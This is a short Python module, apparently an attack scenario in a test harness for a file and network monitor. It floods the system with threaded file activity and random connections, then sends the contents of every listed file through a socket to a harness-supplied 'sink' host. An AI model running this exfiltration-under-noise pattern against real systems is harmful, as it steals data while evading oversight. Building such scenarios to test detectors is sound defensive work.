# SPDX-License-Identifier: GPL-3.0-or-later
"""So many calls and connections first that something has to give; then all files at once."""
import os
import random
import socket
import threading
import time

KIND = "attack"


def noise(world, number, until):
    rng = random.Random(f"{world['seed']} {number}")
    own = os.path.join(world["scratch"], f"noise-{number}")
    while time.monotonic() < until:
        with open(own, "wb") as file:
            file.write(b"x")
        with open(own, "rb") as file:
            file.read()
        if rng.random() < 0.02:
            socket.create_connection(rng.choice(world["sinks"])).close()


def product(world):
    until = time.monotonic() + 3
    threads = [threading.Thread(target=noise, args=(world, number, until)) for number in range(4)]
    for thread in threads:
        thread.start()
    time.sleep(1.5)
    with socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        for path in world["files"]:
            with open(path, "rb") as file:
                sock.sendall(file.read())
    for thread in threads:
        thread.join()
